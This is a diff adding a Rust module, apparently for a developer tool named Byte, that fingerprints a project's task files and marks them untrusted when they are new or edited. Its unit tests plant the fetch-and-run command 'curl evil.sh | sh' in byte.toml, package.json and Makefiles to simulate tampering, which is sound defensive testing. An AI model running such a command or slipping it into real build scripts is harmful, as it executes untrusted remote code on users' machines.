@@ -0,0 +1,228 @@
+//! Trusted projects: task definitions the user has agreed to run
+//!
+//! A project is trusted by the SHA-256 of its byte.toml and of every file
+//! tasks are imported from (package.json, Makefile, justfile, ...), stored in
+//! `~/.config/byte/trusted.toml`. A project Byte hasn't seen, with or without
+//! a byte.toml, or one whose task files changed since, asks again before its
+//! tasks run.
+
+use anyhow::Result;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TrustStatus {
+    Trusted,
+    /// Never trusted
+    New,
+    /// byte.toml changed since it was trusted
+    Changed,
+}
+
+impl TrustStatus {
+    pub fn label(&self) -> &'static str {
+        match self {
+            TrustStatus::Trusted => "trusted",
+            TrustStatus::New => "This project's tasks haven't been trusted yet",
+            TrustStatus::Changed => {
+                "byte.toml or a task file changed since the project was trusted"
+            }
+        }
+    }
+}
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct TrustFile {
+    /// Project directory → task files fingerprint
+    #[serde(default)]
+    projects: BTreeMap<String, String>,
+}
+
+/// The trusted.toml file
+pub struct TrustStore {
+    path: PathBuf,
+}
+
+impl TrustStore {
+    /// `~/.config/byte/trusted.toml`
+    pub fn open() -> Result<Self> {
+        let home =
+            dirs::home_dir().ok_or_else(|| anyhow::anyhow!("Could not find home directory"))?;
+        Ok(Self::at(home.join(".config/byte/trusted.toml")))
+    }
+
+    pub fn at(path: impl Into<PathBuf>) -> Self {
+        Self { path: path.into() }
+    }
+
+    pub fn status(&self, project_path: &Path) -> TrustStatus {
+        match self.read().projects.get(&key(project_path)) {
+            Some(trusted) if *trusted == fingerprint(project_path) => TrustStatus::Trusted,
+            Some(_) => TrustStatus::Changed,
+            None => TrustStatus::New,
+        }
+    }
+
+    /// Trust the project's task files as they are now
+    pub fn trust(&self, project_path: &Path) -> Result<()> {
+        let mut file = self.read();
+        file.projects
+            .insert(key(project_path), fingerprint(project_path));
+        if let Some(parent) = self.path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(&self.path, toml::to_string_pretty(&file)?)?;
+        Ok(())
+    }
+
+    /// A missing or unreadable file trusts nothing
+    fn read(&self) -> TrustFile {
+        std::fs::read_to_string(&self.path)
+            .ok()
+            .and_then(|content| toml::from_str(&content).ok())
+            .unwrap_or_default()
+    }
+}
+
+/// Canonical directory, so `~/projects/x` and a symlink to it agree
+fn key(project_path: &Path) -> String {
+    std::fs::canonicalize(project_path)
+        .unwrap_or_else(|_| project_path.to_path_buf())
+        .to_string_lossy()
+        .to_string()
+}
+
+/// Hash of byte.toml and every imported task file that exists, by name, so
+/// adding, removing or editing any of them asks again; a polyglot project's
+/// capability directories (`backend/package.json`) count too
+fn fingerprint(project_path: &Path) -> String {
+    let mut hasher = Sha256::new();
+    let mut files: Vec<String> = std::iter::once("byte.toml")
+        .chain(crate::tasks::source_files())
+        .map(String::from)
+        .collect();
+    for capability in capabilities(project_path) {
+        files.extend(
+            crate::tasks::source_files().map(|file| format!("{}/{}", capability.dir(), file)),
+        );
+    }
+    for file in files {
+        if let Ok(content) = std::fs::read(project_path.join(&file)) {
+            hasher.update(file.as_bytes());
+            hasher.update((content.len() as u64).to_le_bytes());
+            hasher.update(&content);
+        }
+    }
+    hasher
+        .finalize()
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+/// Capabilities byte.toml declares, whose directories hold task files too
+fn capabilities(project_path: &Path) -> Vec<crate::config::types::Capability> {
+    std::fs::read_to_string(project_path.join("byte.toml"))
+        .ok()
+        .and_then(|content| toml::from_str::<crate::config::ProjectConfig>(&content).ok())
+        .map(|config| crate::projects::drivers::capabilities(&config))
+        .unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_trust_follows_byte_toml() {
+        let temp = TempDir::new().unwrap();
+        let store = TrustStore::at(temp.path().join("trusted.toml"));
+        let project = temp.path().join("shop");
+        std::fs::create_dir(&project).unwrap();
+        std::fs::write(
+            project.join("byte.toml"),
+            "[build]\nbuild = \"cargo build\"\n",
+        )
+        .unwrap();
+
+        assert_eq!(store.status(&project), TrustStatus::New);
+        store.trust(&project).unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Trusted);
+
+        std::fs::write(
+            project.join("byte.toml"),
+            "[build]\nbuild = \"curl evil.sh | sh\"\n",
+        )
+        .unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Changed);
+    }
+
+    #[test]
+    fn test_trust_covers_imported_task_files() {
+        let temp = TempDir::new().unwrap();
+        let store = TrustStore::at(temp.path().join("trusted.toml"));
+        let project = temp.path().join("web");
+        std::fs::create_dir(&project).unwrap();
+        std::fs::write(
+            project.join("package.json"),
+            r#"{"scripts": {"build": "vite build"}}"#,
+        )
+        .unwrap();
+
+        // No byte.toml is no free pass
+        assert_eq!(store.status(&project), TrustStatus::New);
+        store.trust(&project).unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Trusted);
+
+        std::fs::write(
+            project.join("package.json"),
+            r#"{"scripts": {"build": "curl evil.sh | sh"}}"#,
+        )
+        .unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Changed);
+
+        store.trust(&project).unwrap();
+        std::fs::write(project.join("Makefile"), "build:\n\tcurl evil.sh | sh\n").unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Changed);
+    }
+
+    #[test]
+    fn test_trust_covers_capability_directories() {
+        let temp = TempDir::new().unwrap();
+        let store = TrustStore::at(temp.path().join("trusted.toml"));
+        let project = temp.path().join("shop");
+        std::fs::create_dir_all(project.join("frontend")).unwrap();
+        std::fs::write(
+            project.join("byte.toml"),
+            "[project]\nname = \"shop\"\ntype = \"web\"\necosystem = \"go+bun\"\n\n\
+             [drivers]\nuse = [\"go\", \"bun\"]\ncapabilities = [\n  { name = \"backend\", driver = \"go\" },\n  \
+             { name = \"frontend\", driver = \"bun\" },\n]\n",
+        )
+        .unwrap();
+        std::fs::write(
+            project.join("frontend/package.json"),
+            r#"{"scripts": {"build": "vite build"}}"#,
+        )
+        .unwrap();
+        store.trust(&project).unwrap();
+
+        std::fs::write(
+            project.join("frontend/package.json"),
+            r#"{"scripts": {"build": "curl evil.sh | sh"}}"#,
+        )
+        .unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Changed);
+
+        store.trust(&project).unwrap();
+        std::fs::create_dir(project.join("backend")).unwrap();
+        std::fs::write(
+            project.join("backend/Makefile"),
+            "build:\n\tcurl evil.sh | sh\n",
+        )
+        .unwrap();
+        assert_eq!(store.status(&project), TrustStatus::Changed);
+    }
+}